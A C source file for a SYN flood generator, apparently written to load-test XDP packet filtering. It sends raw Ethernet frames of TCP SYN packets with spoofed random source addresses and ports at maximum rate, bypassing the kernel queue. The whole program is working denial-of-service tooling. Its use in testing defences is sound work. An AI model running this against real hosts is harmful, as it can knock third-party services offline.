/* A SYN flood for the XDP tests: Ethernet frames on an AF_PACKET socket, each a SYN to
 * dst:port from a random source address in src/prefix and a random source port, with
 * correct checksums. Sends for `seconds` as fast as it can (batches of sendmmsg, the
 * qdisc bypassed) and prints how many frames it sent.
 *
 *   synflood IFNAME SRC_MAC DST_MAC SRC_NET PREFIX DST_IP DST_PORT SECONDS
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME (14 + 20 + 20)

static uint64_t rng = 88172645463325252ull;
static uint32_t next_random(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return (uint32_t)rng;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

static uint32_t add16(const void *p, size_t len, uint32_t sum)
{
    const uint16_t *w = p;
    for (size_t i = 0; i < len / 2; i++)
        sum += w[i];
    return sum;
}

static void parse_mac(const char *s, uint8_t *mac)
{
    unsigned v[6];
    if (sscanf(s, "%x:%x:%x:%x:%x:%x", &v[0], &v[1], &v[2], &v[3], &v[4], &v[5]) != 6) {
        fprintf(stderr, "bad MAC %s\n", s);
        exit(2);
    }
    for (int i = 0; i < 6; i++)
        mac[i] = v[i];
}

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc != 9) {
        fprintf(stderr, "usage: %s IFNAME SRC_MAC DST_MAC SRC_NET PREFIX DST_IP DST_PORT SECONDS\n",
                argv[0]);
        return 2;
    }
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) {
        perror("socket");
        return 1;
    }
    int one = 1;
    setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
    struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(argv[1]),
                              .sll_halen = 6 };
    if (!to.sll_ifindex) {
        perror("if_nametoindex");
        return 1;
    }
    uint8_t src_mac[6], dst_mac[6];
    parse_mac(argv[2], src_mac);
    parse_mac(argv[3], dst_mac);
    memcpy(to.sll_addr, dst_mac, 6);
    uint32_t net = ntohl(inet_addr(argv[4]));
    uint32_t host_bits = 32 - atoi(argv[5]);
    uint32_t dst = inet_addr(argv[6]);
    uint16_t dport = htons(atoi(argv[7]));
    double seconds = atof(argv[8]);

    static uint8_t frames[BATCH][FRAME];
    struct iovec iov[BATCH];
    struct mmsghdr msgs[BATCH];
    memset(msgs, 0, sizeof(msgs));
    for (int i = 0; i < BATCH; i++) {
        uint8_t *f = frames[i];
        memcpy(f, dst_mac, 6);
        memcpy(f + 6, src_mac, 6);
        f[12] = 0x08, f[13] = 0x00;
        iov[i].iov_base = f;
        iov[i].iov_len = FRAME;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = &to;
        msgs[i].msg_hdr.msg_namelen = sizeof(to);
    }

    uint64_t sent = 0;
    double start = now_s(), end = start + seconds;
    while (now_s() < end) {
        for (int i = 0; i < BATCH; i++) {
            struct iphdr *ip = (struct iphdr *)(frames[i] + 14);
            struct tcphdr *tcp = (struct tcphdr *)(frames[i] + 34);
            memset(ip, 0, 40);
            ip->version = 4;
            ip->ihl = 5;
            ip->tot_len = htons(40);
            ip->ttl = 64;
            ip->protocol = IPPROTO_TCP;
            uint32_t r = next_random();
            ip->saddr = htonl(net | (host_bits ? (r & ((1u << host_bits) - 1)) | 1 : 0));
            ip->daddr = dst;
            ip->check = fold(add16(ip, 20, 0));
            tcp->source = htons(1024 + (next_random() % 60000));
            tcp->dest = dport;
            tcp->seq = next_random();
            tcp->doff = 5;
            tcp->syn = 1;
            tcp->window = htons(64240);
            uint32_t sum = add16(&ip->saddr, 8, 0) + htons(IPPROTO_TCP) + htons(20);
            tcp->check = fold(add16(tcp, 20, sum));
        }
        int n = sendmmsg(fd, msgs, BATCH, 0);
        if (n > 0)
            sent += n;
    }
    double took = now_s() - start;
    printf("%llu %.3f\n", (unsigned long long)sent, took);
    return 0;
}
